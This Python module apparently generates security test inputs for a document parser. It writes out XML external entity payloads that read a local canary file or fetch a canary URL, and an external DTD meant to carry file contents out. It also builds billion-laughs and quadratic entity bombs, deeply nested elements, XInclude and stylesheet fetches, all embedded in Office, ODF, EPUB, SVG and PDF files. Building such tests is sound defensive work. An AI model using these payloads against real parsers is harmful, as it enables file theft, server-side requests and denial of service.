"""XML that names entities: files of the machine, addresses, and text that grows without end."""

from __future__ import annotations

from collections.abc import Callable

from assay.model.document import Reason

from .papers import (
    FIRST_STRING,
    TEXT,
    W,
    docx,
    docx_parts,
    epub,
    fb2,
    odf_parts,
    ods,
    odt,
    paragraph,
    pptx_parts,
    replaced,
    svg,
    with_part,
    xhtml,
    xlsx_parts,
)
from .pdf_writer import pdf_of, text_page
from .shape import ANY, NOT_WHOLE, READ_OR_PARTIAL, TOO_LARGE, Attack, Canary, Make
from .writers import zip_of

ROW = "XML entities"
ENTITY = frozenset((Reason.XML_ENTITY,))
Carrier = Callable[[str, str], bytes]


def of_file(canary: Canary) -> str:
    return f'<!DOCTYPE x [<!ENTITY e SYSTEM "{canary.secret.as_uri()}">]>'


def of_address(canary: Canary) -> str:
    return f'<!DOCTYPE x [<!ENTITY e SYSTEM "{canary.url}/entity">]>'


def of_parameter(canary: Canary) -> str:
    """An outside DTD, which would put the file's content into an address."""
    return f'<!DOCTYPE x [<!ENTITY % d SYSTEM "{canary.url}/x.dtd"> %d; <!ENTITY e "{TEXT[:3]}">]>'


def laughs(_: Canary) -> str:
    lines = ['<!ENTITY l0 "lol">']
    lines += [f'<!ENTITY l{level} "{f"&l{level - 1};" * 10}">' for level in range(1, 12)]
    return f'<!DOCTYPE x [{"".join(lines)}<!ENTITY e "&l11;">]>'


def quadratic(_: Canary) -> str:
    return f'<!DOCTYPE x [<!ENTITY q "{"a" * 100_000}"><!ENTITY e "{"&q;" * 30_000}">]>'


KINDS: dict[str, Callable[[Canary], str]] = {
    "file": of_file, "http": of_address, "parameter": of_parameter, "laughs": laughs, "quadratic": quadratic,
}  # fmt: skip
CARRIERS: dict[str, Carrier] = {
    "docx": lambda dtd, text: docx(paragraph(text), doctype=dtd),
    "xlsx": lambda dtd, text: zip_of(xlsx_parts(FIRST_STRING, strings=f"<si><t>{text}</t></si>", doctype=dtd)),
    "pptx": lambda dtd, text: zip_of(pptx_parts(text, doctype=dtd)),
    "odt": lambda dtd, text: odt(f"<text:p>{text}</text:p>", doctype=dtd),
    "fb2": lambda dtd, text: fb2(text, doctype=dtd),
    "svg": lambda dtd, text: svg(f'<text x="9" y="20">{text}</text>', doctype=dtd),
    "xml": lambda dtd, text: f'<?xml version="1.0"?>{dtd}<register><cargo>{text}</cargo></register>'.encode(),
}


def attack(kind: str, suffix: str) -> Attack:
    def make(canary: Canary) -> bytes:
        return CARRIERS[suffix](KINDS[kind](canary), f"{TEXT} &e;")

    quick = kind in ("file", "laughs")
    return Attack(ROW, f"{kind}.{suffix}", make, NOT_WHOLE, ENTITY, must_text=(TEXT,), quick=quick)


def deep(suffix: str, opening: str, closing: str, frame: tuple[str, str] = ("", "")) -> Attack:
    """200,000 elements in each other."""

    def make(_: Canary) -> bytes:
        nest = frame[0] + opening * 200_000 + TEXT + closing * 200_000 + frame[1]
        bodies: dict[str, Callable[[], bytes]] = {
            "docx": lambda: docx(paragraph(TEXT) + nest),
            "odt": lambda: odt(f"<text:p>{TEXT}</text:p>{nest}"),
            "xml": lambda: f"<a><cargo>{TEXT}</cargo>{nest}</a>".encode(),
            "svg": lambda: svg(f'<text x="9" y="9">{TEXT}</text>{nest}'),
            "xhtml": lambda: xhtml(f"<p>{TEXT}</p>{nest}").encode(),
            "html": lambda: f"<html><p>{TEXT}</p>{nest}</html>".encode(),
            "fb2": lambda: fb2(f"{TEXT}</p>{nest}<p>"),
        }
        return bodies[suffix]()

    return Attack(ROW, f"deep-200000.{suffix}", make, reasons=TOO_LARGE, must_text=(TEXT,))


def one(name: str, make: Make, **holds: object) -> Attack:
    held = {"outcomes": READ_OR_PARTIAL, "reasons": ENTITY | TOO_LARGE, "must_text": (TEXT,), "quick": True, **holds}
    return Attack(ROW, name, make, **held)  # type: ignore[arg-type]


def in_part(parts: dict[str, bytes], name: str) -> Make:
    """The entity stands in another part than the text's: properties, relations, styles."""

    def make(canary: Canary) -> bytes:
        data = parts.get(name) or f'<?xml version="1.0"?><x xmlns="{W}"></x>'.encode()
        head, _, rest = data.partition(b"?>")
        return with_part(parts, name, head + b"?>" + of_file(canary).encode() + replaced(rest, b"</", b"&e;</"))

    return make


def wide(canary: Canary) -> bytes:
    text = f"<?xml version='1.0' encoding='UTF-16'?>{of_file(canary)}<register><c>{TEXT} &e;</c></register>"
    return b"\xff\xfe" + text.encode("utf-16-le")


def included(canary: Canary) -> bytes:
    where = canary.secret.as_uri()
    return (
        f'<register xmlns:xi="http://www.w3.org/2001/XInclude"><c>{TEXT}</c><xi:include href="{where}" parse="text"/>'
        f'<xi:include href="{canary.url}/x"/></register>'
    ).encode()


def styled(canary: Canary) -> bytes:
    sheet = f'<?xml-stylesheet type="text/xsl" href="{canary.url}/x.xsl"?>'
    return f'<?xml version="1.0"?>{sheet}<register><c>{TEXT}</c></register>'.encode()


def in_pdf(key: bytes, text: Callable[[Canary], str]) -> Make:
    """XFA or XMP: XML inside of a PDF."""

    def make(canary: Canary) -> bytes:
        data = text(canary).encode()
        stream = b"<</Length %d/Type/Metadata/Subtype/XML>>stream\n%s\nendstream" % (len(data), data)
        extra = {b"XFA": b"/AcroForm<</Fields[]/XFA 9 0 R>>", b"XMP": b"/Metadata 9 0 R"}[key]
        return pdf_of({**text_page(TEXT), 9: stream}, root=extra)

    return make


def xfa(canary: Canary) -> str:
    form = "http://www.xfa.org/schema/xfa-template/3.3/"
    return (
        f'<?xml version="1.0"?>{of_file(canary)}<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="{form}">'
        "<subform><field name='a'><value><text>&e;</text></value></field></subform></template></xdp:xdp>"
    )


def xmp(canary: Canary) -> str:
    return (
        f'<?xml version="1.0"?>{of_file(canary)}<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF '
        'xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/">'
        "<dc:creator>&e;</dc:creator></rdf:Description></rdf:RDF></x:xmpmeta>"
    )


ODT, DOCX, XLSX = odf_parts("text", f"<text:p>{TEXT}</text:p>"), docx_parts(paragraph(TEXT)), xlsx_parts(FIRST_STRING)
ATTACKS = (
    *(attack(kind, suffix) for suffix in CARRIERS for kind in KINDS),
    deep("docx", "<w:tbl><w:tr><w:tc>", "</w:tc></w:tr></w:tbl>"),
    deep("odt", "<text:section>", "</text:section>"),
    deep("xml", "<a>", "</a>"),
    deep("svg", "<g>", "</g>"),
    deep("xhtml", "<div>", "</div>"),
    deep("html", "<table><tr><td>", ""),
    deep("fb2", "<section>", "</section>"),
    one("wide-characters.xml", wide, outcomes=NOT_WHOLE, reasons=ENTITY),
    one("included.xml", included),
    one("styled.xml", styled),
    one("properties.docx", in_part(DOCX, "docProps/core.xml")),
    one("content-types.docx", in_part(DOCX, "[Content_Types].xml"), outcomes=ANY, must_text=()),
    one("relations.docx", in_part(DOCX, "word/_rels/document.xml.rels")),
    one("styles.docx", in_part(DOCX, "word/styles.xml")),
    one("workbook.xlsx", in_part(XLSX, "xl/workbook.xml"), outcomes=ANY, must_text=()),
    one("manifest.odt", in_part(ODT, "META-INF/manifest.xml")),
    one("settings.odt", in_part(ODT, "settings.xml")),
    one("meta.odt", in_part(ODT, "meta.xml")),
    one("chapter.epub", lambda c: epub(xhtml(f"<p>{TEXT} &e;</p>", doctype=of_file(c)))),
    one("package.epub", lambda c: epub(xhtml(f"<p>{TEXT}</p>"), package=of_file(c))),
    one("cells.ods", lambda c: ods(f"<table:table-row><table:table-cell><text:p>{TEXT} &e;</text:p></table:table-cell></table:table-row>", doctype=of_file(c)), outcomes=NOT_WHOLE, reasons=ENTITY),
    one("xfa.pdf", in_pdf(b"XFA", xfa)),
    one("xmp.pdf", in_pdf(b"XMP", xmp)),
)  # fmt: skip
